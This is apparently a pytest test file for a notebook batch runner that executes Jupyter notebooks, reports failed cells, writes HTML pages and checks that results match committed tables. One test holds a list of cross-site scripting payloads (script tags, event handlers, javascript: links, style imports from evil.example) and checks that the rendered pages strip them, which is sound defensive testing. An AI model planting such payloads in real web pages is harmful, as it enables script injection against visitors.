"""Notebooks in batch: failures are reported, pages are written, and every way to run them gives the same results."""

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
import torch

from ucl.cli.main import main
from ucl.errors import InputError
from ucl.reproduction import batch, colab
from ucl.reproduction.batch import find_notebooks, notebooks_folder, reproduce
from ucl.reproduction.pages import _STYLE, Outcome, write_page
from ucl.reproduction.session import PROFILES

ROOT = Path(__file__).parents[1]


def notebook(path, *cells):
    """A notebook like a published one, with a title, a badge and a set-up cell."""
    title, code = (
        nbformat.v4.new_markdown_cell("# Title\n\nProse, [another](bad.ipynb)"),
        [nbformat.v4.new_code_cell(cell) for cell in cells],
    )
    code[0].metadata["tags"] = ["parameters"]
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    whole = nbformat.v4.new_notebook(cells=[title, *code], metadata={"kernelspec": kernel})
    path.write_text(json.dumps(colab.with_setup(whole, path.stem, "someone/project")))
    return str(path)


@pytest.fixture(scope="module")
def done(tmp_path_factory):
    """One notebook that ends and one that fails, executed together."""
    folder = tmp_path_factory.mktemp("notebooks")
    good = notebook(
        folder / "good.ipynb",
        "number = 1\noutput = None",
        "import matplotlib.pyplot as plt\nplt.plot([number, 2]);",
        "from tqdm.auto import tqdm\nfor _ in tqdm(range(number)):\n    pass",
        "print('doubled:', 2 * number)",
        "import os\nprint('threads:', os.environ['OMP_NUM_THREADS'])",
    )
    bad = notebook(
        folder / "bad.ipynb", "number = 1\noutput = None", "print('so far')", "raise ValueError(f'no\\n{number}')"
    )
    before = torch.get_num_threads()
    torch.set_num_threads(6)
    try:
        return reproduce([good, bad], {"number": 21, "output": "mine"}, folder / "pages", jobs=2), folder / "pages"
    finally:
        torch.set_num_threads(before)


def test_the_notebook_of_results_is_executed_after_all_others(tmp_path, monkeypatch):
    ended = []

    def execute(path, folder, **_):
        if path.stem == "slow":
            time.sleep(0.3)
        ended.append(path.stem)
        return Outcome(path.stem, 0.3, "", folder / path.name)

    monkeypatch.setattr(batch, "_execute", execute)
    paths = [notebook(tmp_path / f"{name}.ipynb", "number = 1") for name in ("results", "slow")]
    outcomes = reproduce(paths, output=tmp_path / "pages", jobs=2)
    assert [outcome.name for outcome in outcomes] == ["results", "slow"]
    assert ended == ["slow", "results"]


def test_each_notebook_has_its_outcome_in_order(done):
    outcomes, _ = done
    assert [outcome.name for outcome in outcomes] == ["good", "bad"]
    assert all(outcome.seconds > 0 for outcome in outcomes)


def test_parameters_reach_the_executed_copy(done):
    outcomes, pages = done
    assert outcomes[0].error == ""
    assert "doubled: 42" in (pages / "good.ipynb").read_text()


def test_the_folder_of_the_results_is_relative_to_the_working_folder_and_not_to_the_notebook(done):
    _, pages = done
    parameters = nbformat.read(pages / "good.ipynb", as_version=4).metadata.papermill.parameters
    assert parameters == {"number": 21, "output": str(Path("mine").absolute())}


def test_notebooks_at_a_time_share_the_threads(done):
    _, pages = done
    assert "threads: 3" in (pages / "good.ipynb").read_text()


def test_a_notebook_that_fails_is_named_with_its_cell_and_error_and_kept_aside(done):
    outcomes, pages = done
    number = re.fullmatch(r"cell \[(\d+)\]: ValueError: no 21", outcomes[1].error)[1]
    assert f">In [{number}]</a>" in (pages / "bad.failed.ipynb").read_text()  # papermill's own words on it
    assert not (pages / "bad.ipynb").exists()
    assert "so far" in (pages / "bad.failed.ipynb").read_text()


def test_nothing_half_written_is_left(done):
    _, pages = done
    assert sorted(os.listdir(pages)) == ["bad.failed.ipynb", "bad.html", "good.html", "good.ipynb", "index.html"]


def test_an_incomplete_copy_is_a_failed_notebook_without_a_page(tmp_path, monkeypatch):
    full = "import sys; open(sys.argv[2], 'w').write('{\"cells\": ['); sys.exit('No space left on device')"
    monkeypatch.setattr(batch, "_PAPERMILL", full)
    (outcome,) = reproduce([notebook(tmp_path / "cut.ipynb", "number = 1")], output=tmp_path / "pages")
    assert outcome.error == "No space left on device"
    assert [path.name for path in (tmp_path / "pages").iterdir()] == ["index.html"]
    assert "cut: <strong>failed: No space left" in (tmp_path / "pages" / "index.html").read_text()


def test_the_index_links_every_page_and_shows_its_time_or_the_error(done):
    outcomes, pages = done
    index = (pages / "index.html").read_text()
    assert f'<a href="good.html">good</a>: executed completely, {outcomes[0].seconds:.0f} s' in index
    assert '<a href="bad.html">bad</a>: <strong>failed: cell [' in index and "ValueError: no 21</strong>" in index


@pytest.mark.parametrize("profile", PROFILES)
@pytest.mark.parametrize("given", [True, False])
def test_a_page_says_which_profile_made_it_and_that_smoke_gives_no_results(tmp_path, profile, given):
    source = f'profile = "{"published" if given else profile}"  # or another\nseed = 0'
    cell = nbformat.v4.new_code_cell(source, metadata={"tags": ["parameters"]})
    metadata = {"papermill": {"parameters": {"profile": profile} if given else {"seed": 1}}}
    executed = tmp_path / "one.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[cell], metadata=metadata), executed)
    page = write_page(Outcome("one", 1.0, "", executed)).read_text()
    assert f"Profile <code>{profile}</code>: {PROFILES[profile]}." in page
    assert ("These numbers are not results." in page) == (profile == "smoke")


class Sources(HTMLParser):
    """What a page makes a browser load, run or link."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.loaded, self.links, self.ids = set(), [], [], set()
        self.feed(page.read_text(encoding="utf-8"))

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        for name, value in attributes:
            if name == "href" and tag == "a":
                self.links.append(value)
            elif name in ("src", "srcset", "href", "data", "poster", "action"):
                self.loaded.append(value)
            elif name == "style":
                self.handle_data(value)
            elif name == "id":
                self.ids.add(value)
            assert not name.startswith("on"), f"{tag} {name}"

    def handle_data(self, data):
        if self.lasttag == "style":
            self.loaded += re.findall(r"@import.*", data) + re.findall(r"url\([\s'\"]*([^)]*)\)", data)


def assert_whole_without_network(page):
    """Check that a page runs nothing, loads nothing from outside, and has no broken link to a file or an anchor."""
    found = Sources(page)
    assert found.tags.isdisjoint({"script", "iframe", "object", "embed", "base"})
    assert [source for source in found.loaded if not source.startswith("data:")] == []
    for link in found.links:
        file, _, place = link.partition("#")
        assert link.startswith("https://") or (page.parent / file).exists(), link
        assert file or not place or place in found.ids, link


def test_pages_fetch_nothing_and_run_nothing(done):
    _, pages = done
    for page in pages.glob("*.html"):
        assert_whole_without_network(page)
    assert "data:image/png" in (pages / "good.html").read_text()
    assert "bad.html" in Sources(pages / "good.html").links
    assert "widget-view" in (pages / "good.ipynb").read_text()  # a progress bar, which a page cannot draw


def test_links_between_pages_lead_to_their_headings_and_those_to_others_are_text(tmp_path):
    text = "[here](two.ipynb#What-is-it?), [whole](two.ipynb), [gone](three.ipynb#There)"
    pages = {}
    for name, source in (("one", text), ("two", "# Two\n\n## What is it?")):
        cell = nbformat.v4.new_markdown_cell(source)
        nbformat.write(nbformat.v4.new_notebook(cells=[cell]), tmp_path / f"{name}.ipynb")
        pages[name] = write_page(Outcome(name, 1.0, "", tmp_path / f"{name}.ipynb"), ["one", "two"])
    links = [link.partition("#") for link in Sources(pages["one"]).links if link.startswith("two")]
    assert [(file, place) for file, _, place in links] == [("two.html", "What-is-it?"), ("two.html", "")]
    assert "What-is-it?" in Sources(pages["two"]).ids
    assert "gone" in pages["one"].read_text() and "three" not in pages["one"].read_text()


HOSTILE = """
<script>alert(1)</script><SCRIPT src="https://evil.example/x.js"></SCRIPT>
<img src="x.png" onerror="alert(3)"><img src="https://evil.example/pixel.png"><img src="data:text/html,<b>x</b>">
<svg onload="alert(4)"><script>alert(5)</script></svg><iframe src="https://evil.example"></iframe>
<a href="javascript:alert(6)">a</a> <a href=" &#106;avascript:alert(7)">b</a> <a href="data:text/html,x">c</a>
<style>@import url(https://evil.example/a.css);</style><style>td { background: url(https://evil.example/b.png) }</style>
<style>#mine { color: green }</style><table onclick="alert(8)" style="background: url(https://evil.example/c.png)">
<tr><td colspan="2" id="mine">a cell</td></tr></table><form action="https://evil.example"><input name="x"></form>
<meta http-equiv="refresh" content="0; url=https://evil.example"><base href="https://evil.example">
<object data="x"></object><embed src="x"><link rel="stylesheet" href="https://evil.example/d.css"><math><mi>y</mi></math>
"""
PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n and so on").decode()


def test_whatever_a_notebook_holds_its_page_runs_and_fetches_nothing(tmp_path):
    out, new = nbformat.v4.new_output, nbformat.v4
    bundles = [
        {"text/html": HOSTILE},
        {"application/javascript": "alert(9)"},
        {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(10)"><script>y</script></svg>'},
        {"text/markdown": "*so* <img src=x onerror=alert(12)> <b>bold</b>"},
        {"text/latex": "$a < b$ <script>alert(13)</script>"},
        {"image/png": PICTURE},
    ]
    stream = out("stream", text="\x1b[31m<script>alert(14)</script>")
    error = out("error", ename="E", evalue="v", traceback=["<script>alert(15)</script>"])
    cells = [
        new.new_markdown_cell(
            f"# A < title\n\n$x_i < y & z > 0$\n\n> quoted\n\n{HOSTILE}\n\n| a | b |\n|---|---|\n| 1 | 2 |"
        ),
        new.new_raw_cell(HOSTILE),
        new.new_code_cell("print('<script>')", outputs=[out("display_data", data=data) for data in bundles]),
        new.new_code_cell("", outputs=[stream, error]),
        new.new_markdown_cell(
            "<scr<script></script>ipt>alert(16)</script> <img src='x' <b onerror=alert(17)> <script>"
        ),
    ]
    executed = tmp_path / "hostile.ipynb"
    nbformat.write(new.new_notebook(cells=cells, metadata={"language_info": {"name": "python"}}), executed)
    (tmp_path / "index.html").write_text("")
    page = write_page(Outcome("hostile", 1.0, "", executed))
    assert_whole_without_network(page)
    found, text = Sources(page), page.read_text()
    assert found.tags.isdisjoint({"svg", "form", "input", "math"})
    assert "#mine { color: green }" in text and '<td colspan="2" id="mine">a cell</td>' in text
    # The content of the notebook is still in the page.
    assert "$x_i &lt; y &amp; z &gt; 0$" in text and "<blockquote>" in text and "<th" in text and "<b>bold</b>" in text
    assert f'src="data:image/png;base64,{PICTURE}"' in text and "data:image/svg+xml;base64," in text
    assert '<span class="nb">print</span>' in text and "ansi-red-fg" in text


def test_the_style_speaks_of_what_the_pages_have(done):
    """The class names are the template's: a style rule for a name that was removed would have no effect."""
    _, pages = done
    text = "".join(page.read_text() for page in pages.glob("*.html"))
    have = {name for names in re.findall(r'class="([^"]*)"', text) for name in names.split()}
    used = set(re.findall(r"\.([a-z][\w-]+)", _STYLE))
    assert used and used <= have


def test_pages_leave_out_what_is_for_colab(done):
    _, pages = done
    assert "Open in Colab" in (pages / "good.ipynb").read_text()
    page = (pages / "good.html").read_text()
    assert "colab" not in page.lower() and "Prose" in page and "doubled: 42" in page


def test_a_page_has_the_pictures_of_its_execution_and_not_the_committed_ones(tmp_path):
    prose = "# Title\n\n![The update](../figures/03_memory_update.png)\n\nMore prose."
    shown = nbformat.v4.new_output("display_data", data={"image/png": PICTURE})
    cells = [nbformat.v4.new_markdown_cell(prose), nbformat.v4.new_code_cell("draw()", outputs=[shown])]
    nbformat.write(nbformat.v4.new_notebook(cells=cells), tmp_path / "one.ipynb")
    page = write_page(Outcome("one", 1.0, "", tmp_path / "one.ipynb")).read_text()
    assert page.count("<img") == 1 and f'src="data:image/png;base64,{PICTURE}"' in page
    assert "The update" not in page and "More prose." in page


def test_an_unknown_parameter_is_refused_before_anything_runs(tmp_path):
    path = notebook(tmp_path / "one.ipynb", "number = 1", "print(number)")
    with pytest.raises(InputError) as refusal:
        reproduce([path], {"nunber": 2}, tmp_path / "pages")
    assert "nunber" in str(refusal.value) and "did you mean 'number'" in str(refusal.value)
    assert not (tmp_path / "pages").exists()


def test_a_parameter_of_a_notebook_without_parameters_is_refused(tmp_path):
    path = notebook(tmp_path / "plain.ipynb", "number = 1")
    Path(path).write_text(Path(path).read_text().replace('"parameters"', '"other"'))
    with pytest.raises(InputError, match="plain has no cell with the tag `parameters`; leave this out"):
        reproduce([path], {"number": 2}, tmp_path / "pages")


@pytest.mark.parametrize("text", ["{", "[]", ""])
def test_a_file_that_is_no_notebook_is_refused_in_one_line(tmp_path, capsys, text):
    (tmp_path / "torn.ipynb").write_text(text)
    assert main(["reproduce", str(tmp_path / "torn.ipynb"), "--output", str(tmp_path / "pages")]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith(f"ucl reproduce: {tmp_path / 'torn.ipynb'}: can't be read as a notebook (")
    assert not (tmp_path / "pages").exists()


def test_an_unknown_notebook_is_refused_with_the_nearest_name():
    with pytest.raises(InputError, match="tables"):
        find_notebooks(["table"])


@pytest.mark.parametrize(
    "name", ["{gone}/tables.ipynb", "{gone}/tables", "./tables", "tables.csv", "tables.ipynb.ipynb"]
)
def test_only_a_plain_name_stands_for_a_notebook_of_the_project(tmp_path, name):
    with pytest.raises(InputError, match=r"unknown notebook; .*choose from: .*, tables"):
        find_notebooks([name.format(gone=tmp_path)])
    assert find_notebooks(["tables.ipynb"]) == find_notebooks(["tables"])


def test_a_notebook_that_is_named_twice_is_executed_once():
    path = notebooks_folder() / "tables.ipynb"
    assert find_notebooks(["tables", str(path), "claims", "tables"]) == [path, path.with_name("claims.ipynb")]


def test_two_notebooks_of_one_name_are_refused_in_one_line(tmp_path):
    path = notebook(tmp_path / "tables.ipynb", "number = 1")
    with pytest.raises(InputError, match=r"has the name of .*; rename one") as refusal:
        find_notebooks(["tables", path])
    assert "\n" not in str(refusal.value)


def test_without_names_all_notebooks_are_meant():
    assert find_notebooks() == sorted(notebooks_folder().glob("*.ipynb"))


def test_results_are_the_committed_ones_whichever_way_their_notebook_runs(tmp_path):
    """By `reproduce`, by plain papermill from another folder, and by Jupyter itself in a copy of the checkout."""
    of_notebook = {
        "tables": ["table1_cifar10.csv", "table2_cifar100.csv", "table3_long_tailed.csv"],
        "figure1_relative_improvement": ["figure1_relative_improvement.csv"],
    }
    tables, figure = of_notebook
    by_papermill = [sys.executable, "-m", "papermill", str(ROOT / "notebooks" / f"{figure}.ipynb"), "out.ipynb"]
    by_papermill += ["-p", "output", str(tmp_path / "papermill"), "--no-progress-bar"]

    copy = tmp_path / "copy"
    for part in ("ucl", "notebooks"):  # Compiled code comes along; another process may just be writing some.
        shutil.copytree(ROOT / part, copy / part, ignore=shutil.ignore_patterns("*.pyc.*", ".*"))
    (copy / "figures").mkdir()
    (copy / "figures" / "runs").symlink_to(ROOT / "figures" / "runs")
    by_jupyter = [sys.executable, "-m", "jupyter", "nbconvert", "--execute", "--to", "notebook", "--inplace"]
    by_jupyter += [f"{figure}.ipynb"]
    environment = {**os.environ, "PYTHONPATH": str(copy)}

    with (
        subprocess.Popen(by_papermill, cwd=tmp_path) as first,
        subprocess.Popen(by_jupyter, cwd=copy / "notebooks", env=environment) as second,
    ):
        (outcome,) = reproduce([tables], {"output": str(tmp_path / "reproduced")}, tmp_path / "pages")
    assert (first.returncode, second.returncode) == (0, 0)
    (tmp_path / "pages" / "01_streams.html").touch()  # The prose of the tables links this page.
    assert_whole_without_network(write_page(outcome, [tables, "01_streams"]))
    assert "01_streams.html" in (tmp_path / "pages" / f"{tables}.html").read_text(encoding="utf-8")

    for name, folder in ((tables, "reproduced"), (figure, "papermill"), (figure, "copy/figures")):
        for table in of_notebook[name]:
            assert (tmp_path / folder / table).read_bytes() == (ROOT / "figures" / table).read_bytes(), (folder, table)
